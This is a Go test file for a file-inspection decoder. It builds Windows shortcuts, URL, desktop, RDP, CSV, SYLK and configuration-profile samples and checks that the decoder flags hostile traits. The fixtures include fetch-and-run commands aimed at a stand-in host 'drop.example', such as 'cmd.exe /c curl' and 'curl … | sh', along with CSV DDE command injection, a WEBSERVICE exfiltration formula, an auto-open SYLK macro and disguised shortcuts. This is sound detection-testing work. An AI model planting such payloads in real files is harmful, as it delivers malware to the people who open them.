package shortcut_test

import (
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"

	"sluice/inspect"
	"sluice/inspect/child/childtest"
	"sluice/inspect/child/document/documenttest"
	"sluice/inspect/child/document/shortcut"
)

var le = binary.LittleEndian

func wide(s string) string {
	var b []byte
	for _, c := range utf16.Encode([]rune(s)) {
		b = le.AppendUint16(b, c)
	}
	return string(b)
}

// link writes a Windows shortcut, [MS-SHLLINK].
func link(path, args, icon, env string, show uint32) string {
	b := make([]byte, 76)
	le.PutUint32(b, 0x4C)
	copy(b[4:], "\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46")
	le.PutUint32(b[20:], 1<<1|1<<5|1<<6|1<<7)
	le.PutUint32(b[60:], show)
	info := make([]byte, 28)
	le.PutUint32(info[4:], 28)
	le.PutUint32(info[8:], 1)
	le.PutUint32(info[16:], 28)
	le.PutUint32(info[24:], uint32(28+len(path)))
	info = append(info, path+"\x00\x00"...)
	le.PutUint32(info, uint32(len(info)))
	b = append(b, info...)
	for _, s := range []string{args, icon} {
		b = append(le.AppendUint16(b, uint16(len(s))), wide(s)...)
	}
	if env != "" {
		block := make([]byte, 788)
		le.PutUint32(block, 788)
		le.PutUint32(block[4:], 0xA0000001)
		copy(block[268:], wide(env))
		b = append(b, block...)
	}
	return string(append(b, 0, 0, 0, 0))
}

func TestCarriersAndTwins(t *testing.T) {
	const cmd, doc = `C:\Windows\System32\cmd.exe`, `C:\Users\me\report.docx`
	documenttest.Run(t, shortcut.Decoder{}, []documenttest.Case{
		{Name: "document", Type: "lnk", Body: link(doc, "", "", "", 1), Want: []string{"SHORTCUT_TARGET " + doc}},
		{Name: "command", Type: "lnk", Body: link(cmd, "/c curl http://drop.example/a.hta", `C:\Reader\acrobat.exe`, "", 7), Want: []string{
			"SHORTCUT_TARGET " + cmd + " /c curl http://drop.example/a.hta", "SHORTCUT_RUNS cmd", "SHORTCUT_DISGUISED C:\\Reader\\acrobat.exe", "CODE_EVADES minimised window", "CODE_RUNS cmd.exe", "CODE_FETCHES curl", "link script http://drop.example/a.hta"}},
		{Name: "padded", Type: "lnk", Body: link(cmd, strings.Repeat(" ", 200)+"/c mshta x", "", "", 1), Has: []string{"SHORTCUT_PADDED 200 blanks", "CODE_RUNS mshta"}},
		{Name: "environment", Type: "lnk", Body: link("", "-w hidden", "", `%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe`, 1), Has: []string{"SHORTCUT_RUNS powershell", "CODE_EVADES -w hidden"}},
		{Name: "icon on a share", Type: "lnk", Body: link(doc, "", `\\drop.example\i\a.ico`, "", 1), Has: []string{`SHORTCUT_REMOTE \\drop.example\i\a.ico`}},
		{Name: "program on a share", Type: "lnk", Body: link(`\\drop.example\DavWWWRoot\a.exe`, "", "", "", 1), Has: []string{`link target \\drop.example\DavWWWRoot\a.exe`}},
		{Name: "something behind it", Type: "lnk", Body: link(doc, "", "", "", 1) + strings.Repeat("MZ inert", 9), Has: []string{"TRAILING_DATA 72 bytes"}},

		{Name: "bookmark", Type: "url", Body: "[InternetShortcut]\r\nURL=https://example.org/\r\n", Want: []string{"SHORTCUT_TARGET https://example.org/", "link target https://example.org/"}},
		{Name: "file elsewhere", Type: "url", Body: "[InternetShortcut]\r\nURL=file://drop.example@80/x/a.vbs\r\nIconFile=\\\\drop.example\\i.ico\r\n", Want: []string{
			"SHORTCUT_TARGET file://drop.example@80/x/a.vbs", "SHORTCUT_REMOTE file://drop.example@80/x/a.vbs", `SHORTCUT_REMOTE \\drop.example\i.ico`, "link target file://drop.example@80/x/a.vbs", `link auto \\drop.example\i.ico`}},
		{Name: "webloc", Type: "url", Body: "<plist><dict><key>URL</key><string>https://example.org/?a=1&amp;b=2</string></dict></plist>", Want: []string{"SHORTCUT_TARGET https://example.org/?a=1&b=2", "link target https://example.org/?a=1&b=2"}},

		{Name: "program", Type: "desktop", Body: "[Desktop Entry]\nType=Application\nExec=/usr/bin/gimp %F\n", Want: []string{"SHORTCUT_TARGET /usr/bin/gimp %F"}},
		{Name: "shell", Type: "desktop", Body: "[Desktop Entry]\nType=Application\nExec=bash -c \"curl http://drop.example/|sh\"\n", Has: []string{"SHORTCUT_RUNS bash", "CODE_FETCHES curl", "link script http://drop.example/"}},

		{Name: "desktop at work", Type: "rdp", Body: "screen mode id:i:2\r\nfull address:s:host.example.org\r\nredirectclipboard:i:0\r\n", Want: []string{"REMOTE_DESKTOP host.example.org", "link target rdp://host.example.org"}},
		{Name: "desktop that takes drives", Type: "rdp", Body: "\xFF\xFE" + wide("full address:s:drop.example\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\nremoteapplicationprogram:s:||a\r\n"), Want: []string{
			"REMOTE_DESKTOP drop.example", "REMOTE_DESKTOP_SHARES drivestoredirect *", "REMOTE_DESKTOP_SHARES redirectclipboard", "SHORTCUT_TARGET ||a", "link target rdp://drop.example"}},
		{Name: "settings", Type: "settingcontent", Body: `<PCSettings><DeepLink>%windir%\system32\cmd.exe /c calc</DeepLink></PCSettings>`, Has: []string{"SHORTCUT_RUNS cmd", "CODE_RUNS cmd.exe"}},
		{Name: "settings page", Type: "settingcontent", Body: `<PCSettings><DeepLink>%windir%\system32\display.dll</DeepLink></PCSettings>`, Want: []string{`SHORTCUT_TARGET %windir%\system32\display.dll`}},
		{Name: "library elsewhere", Type: "search-ms", Body: `<libraryDescription><simpleLocation><url>\\drop.example@ssl\x</url></simpleLocation></libraryDescription>`, Want: []string{`SHORTCUT_REMOTE \\drop.example@ssl\x`, `link target \\drop.example@ssl\x`}},
		{Name: "library at home", Type: "search-ms", Body: `<simpleLocation><url>knownfolder:{FDD39AD0}</url></simpleLocation>`, Clean: true},
		{Name: "query", Type: "iqy", Body: "WEB\r\n1\r\nhttp://drop.example/q.dat\r\n", Want: []string{"SHORTCUT_REMOTE http://drop.example/q.dat", "link auto http://drop.example/q.dat"}},

		{Name: "table", Type: "csv", Body: "name;sum\r\n=A1+B1;-5\r\n\"+49 30 1234\",@home\r\n", Clean: true},
		{Name: "table that runs", Type: "csv", Body: "name,=cmd|'/c powershell'!A0,x\r\n", Want: []string{"DDE_COMMAND =cmd|'/c powershell'!A0,x", "CODE_RUNS powershell"}},
		{Name: "table that fetches", Type: "csv", Body: "=WEBSERVICE(\"http://drop.example/\"&A1)\r\n", Want: []string{"CODE_FETCHES WEBSERVICE", "link anchor http://drop.example/"}},
		{Name: "sylk", Type: "sylk", Body: "ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC(\"cmd.exe /c calc\")\r\nE\r\n", Has: []string{"SHEET_MACRO SYLK", "MACRO_AUTORUN Auto_Open", "CODE_RUNS EXEC", "CODE_RUNS cmd.exe"}},
		{Name: "sylk of numbers", Type: "sylk", Body: "ID;PWXL\r\nC;Y1;X1;K5\r\nC;Y2;X1;K10;ER[-1]C*2\r\nE\r\n", Clean: true},

		{Name: "profile", Type: "mobileconfig", Body: "<?xml version=\"1.0\"?><plist><dict><key>PayloadContent</key><array><dict><key>PayloadType</key><string>com.apple.security.root</string></dict><dict><key>PayloadType</key>\n<string>com.apple.mdm</string><key>ServerURL</key><string>https://drop.example/mdm</string></dict></array><key>PayloadType</key><string>Configuration</string></dict></plist>", Has: []string{
			"PROFILE_PAYLOAD com.apple.security.root", "PROFILE_PAYLOAD com.apple.mdm", "link target https://drop.example/mdm"}},
		{Name: "signed profile", Type: "mobileconfig", Body: "0\x82\x01\x00...<key>PayloadType</key><string>com.apple.wifi.managed</string>", Want: []string{"PROFILE_PAYLOAD com.apple.wifi.managed"}},
	})
}

func TestHostile(t *testing.T) {
	whole := link(`C:\a.exe`, "x", "y", "z", 1)
	for i := range len(whole) {
		r := childtest.One(t, shortcut.Decoder{}, "a.lnk", "lnk", []byte(whole[:i]))
		if childtest.Has(r, inspect.DecoderPanic, "") {
			t.Fatal(i, r.Facts)
		}
	}
	for name, c := range map[string]struct {
		typ  inspect.Type
		body string
	}{
		"cells":    {"csv", strings.Repeat("=,", 1<<20)},
		"one line": {"csv", "=" + strings.Repeat("a|", 1<<20)},
		"strings":  {"url", "<plist>" + strings.Repeat("<string>", 1<<18)},
		"payloads": {"mobileconfig", strings.Repeat("<key>PayloadType</key>", 1<<16)},
		"settings": {"rdp", strings.Repeat("a:b:c\n", 1<<18)},
	} {
		r := childtest.One(t, shortcut.Decoder{}, "a", c.typ, []byte(c.body))
		if childtest.Has(r, inspect.DecoderPanic, "") || r.Exhausted.Has(inspect.LimitTime) {
			t.Error(name, r.Facts, r.Exhausted)
		}
	}
}

func FuzzOpen(f *testing.F) {
	f.Add([]byte(link(`\\a\b`, "c", "d", "e", 7)))
	f.Add([]byte("[InternetShortcut]\nURL=file://a\nfull address:s:a\n<DeepLink>cmd</DeepLink><url>\\\\a\\b</url>"))
	f.Add([]byte("ID;P\nO;E\nC;X1;EEXEC(\"a\")\n=cmd|'a'!b,<key>PayloadType</key><string>x</string>"))
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, typ := range (shortcut.Decoder{}).Types() {
			childtest.Bytes(t, shortcut.Decoder{}, typ, b)
		}
	})
}

func BenchmarkTable(b *testing.B) {
	body := []byte(strings.Repeat("4711,\"Miller, Ann\",2024-01-01,-12.50,+49 30 1234\r\n", 20_000))
	b.SetBytes(int64(len(body)))
	for b.Loop() {
		childtest.One(b, shortcut.Decoder{}, "a.csv", "csv", body)
	}
}
